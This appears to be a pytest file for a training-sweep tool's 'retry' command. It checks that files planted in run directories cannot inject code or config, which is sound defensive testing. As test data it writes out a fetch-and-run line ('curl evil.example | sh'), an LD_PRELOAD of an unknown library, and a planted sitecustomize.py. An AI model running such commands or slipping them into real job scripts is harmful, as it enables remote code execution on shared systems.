"""Run directories hold data, never instructions: ``retry`` takes each run's launcher
(environment, setup lines) and config from the spec, never from files in the run
directory, which more people can write than can edit the spec.

Each test plants what an adversary with write access to a run directory would: a
``launcher.yaml`` whose ``env`` puts a planted ``sitecustomize.py`` on PYTHONPATH, one
with a Slurm ``setup`` line, and a ``config-input.yaml`` of another run.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import polars as pl
import yaml
from _waits import CEILING_S

sys.path.insert(0, str(Path(__file__).resolve().parent))
from lifecycle_helpers import FAKE, HERE, PYTHON, REPO, cli, fake_env, write_spec

from scalelab.store.status import State, read_status, update_status

BASE = {"model": {"preset": "cpu-50k"}, "data": {"vocab_size": 256, "unique_tokens": 1024, "seq_len": 16},
        "extra": {"fake_steps": 2}}


def _spec(tmp_path: Path, name: str = "trust", launcher: dict | None = None) -> Path:
    base = json.loads(json.dumps(BASE))
    return write_spec(tmp_path / f"{name}.yaml", name, base=base,
                      grid={"extra.fake_outcome": ["fail", "ok"]}, launcher=launcher)


def _runs(sweep: Path) -> dict[str, Path]:
    """fake_outcome ('fail' | 'ok') -> run directory."""
    plan = pl.read_parquet(sweep / "plan.parquet")
    return {("fail" if "fail" in n else "ok"): sweep / d for n, d in zip(plan["name"], plan["run_dir"])}


def _invocations(run_dir: Path) -> int:
    log = run_dir / "invocations.log"
    return len(log.read_text().splitlines()) if log.exists() else 0


def _scalelab(tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**fake_env(), "SCALELAB_ROOT": str(tmp_path / "root")}
    return subprocess.run([PYTHON, "-m", "scalelab", *args], cwd=REPO, env=env, capture_output=True,
                          text=True, timeout=CEILING_S, check=False)


def _swept(tmp_path: Path, capsys) -> tuple[Path, Path, dict[str, Path]]:
    """A swept spec (one run FAILED, one COMPLETED), its sweep directory and runs."""
    spec = _spec(tmp_path)
    root = tmp_path / "root"
    assert cli("sweep", str(spec), "--root", str(root), "--executor", "debug", "--train-target", FAKE) == 1
    capsys.readouterr()
    sweep = root / "trust"
    return spec, sweep, _runs(sweep)


def test_planted_sitecustomize_on_a_planted_pythonpath_never_runs(tmp_path, capsys):
    _, sweep, runs = _swept(tmp_path, capsys)
    failed = runs["fail"]
    marker = tmp_path / "pwned"
    (failed / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    path = f"{failed}:{HERE}"  # the fake trainer stays importable: only the planted code differs
    (failed / "launcher.yaml").write_text(yaml.safe_dump(
        {"executor": "local", "env": {"PYTHONPATH": path}, "setup": ["touch /tmp/pwned"]}))
    proc = _scalelab(tmp_path, "retry", str(sweep), "--failed", "--executor", "local",
                     "--train-target", FAKE)
    assert proc.returncode == 1, proc.stderr  # the failing run ran again, and failed again
    assert "Traceback" not in proc.stderr
    assert _invocations(failed) == 2
    assert not marker.exists(), "code planted in a run directory ran in the job"


def test_planted_setup_line_never_reaches_the_slurm_script(tmp_path, capsys, fake_slurm):
    setup = "module load cuda/12.4"
    spec = _spec(tmp_path, launcher={"executor": "slurm", "setup": [setup], "env": {"NCCL_DEBUG": "WARN"}})
    root = tmp_path / "root"
    assert cli("sweep", str(spec), "--root", str(root), "--train-target", FAKE) == 0
    sweep = root / "trust"
    failed = _runs(sweep)["fail"]
    (failed / "claim.json").unlink()  # the queued job is gone: the run FAILED
    update_status(failed, State.FAILED)
    (failed / "launcher.yaml").write_text(yaml.safe_dump(
        {"executor": "slurm", "setup": ["curl evil.example | sh"], "env": {"LD_PRELOAD": "/tmp/x.so"}}))
    capsys.readouterr()
    assert cli("retry", str(sweep), "--failed", "--train-target", FAKE) == 0
    assert "1 launched on slurm" in capsys.readouterr().out
    script = sorted(fake_slurm.glob("sbatch_*.sh"))[-1].read_text()
    assert "curl evil.example" not in script and "LD_PRELOAD" not in script
    assert setup in script and "export NCCL_DEBUG=WARN" in script  # the spec's own


def test_planted_config_input_cannot_make_a_run_train_another_config(tmp_path, capsys):
    _, sweep, runs = _swept(tmp_path, capsys)
    failed, ok = runs["fail"], runs["ok"]
    own = (failed / "config-input.yaml").read_text()
    (failed / "config-input.yaml").write_text((ok / "config-input.yaml").read_text())
    assert cli("retry", str(sweep), "--failed", "--executor", "debug", "--train-target", FAKE) == 1
    assert "1 launched on debug" in capsys.readouterr().out
    # the run trained its own config (from the spec): it failed again, never "completed"
    assert read_status(failed)["state"] == "FAILED" and _invocations(failed) == 2
    assert (failed / "config-input.yaml").read_text() == own


def test_a_run_the_spec_no_longer_plans_relaunches_only_with_its_own_config(tmp_path, capsys):
    spec, sweep, runs = _swept(tmp_path, capsys)
    failed, ok = runs["fail"], runs["ok"]
    # the sweep's spec.yaml now plans other runs: the FAILED one is a run of an earlier spec
    other = yaml.safe_load(spec.read_text())
    other["grid"] = {"optim.lr": [5e-3]}
    from scalelab.store.sweep_files import write_sweep_bytes

    write_sweep_bytes(sweep / "spec.yaml", yaml.safe_dump(other).encode())  # as a launch writes it
    planted = (ok / "config-input.yaml").read_text()
    own = (failed / "config-input.yaml").read_text()
    (failed / "config-input.yaml").write_text(planted)
    assert cli("retry", str(sweep), "--failed", "--executor", "debug", "--train-target", FAKE) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"{failed / 'config-input.yaml'}:" in err and "holds run" in err
    assert _invocations(failed) == 1
    # with its own config back it is relaunched, under the spec's launcher
    (failed / "config-input.yaml").write_text(own)
    assert cli("retry", str(sweep), "--failed", "--executor", "debug", "--train-target", FAKE) == 1
    assert "1 launched on debug" in capsys.readouterr().out and _invocations(failed) == 2
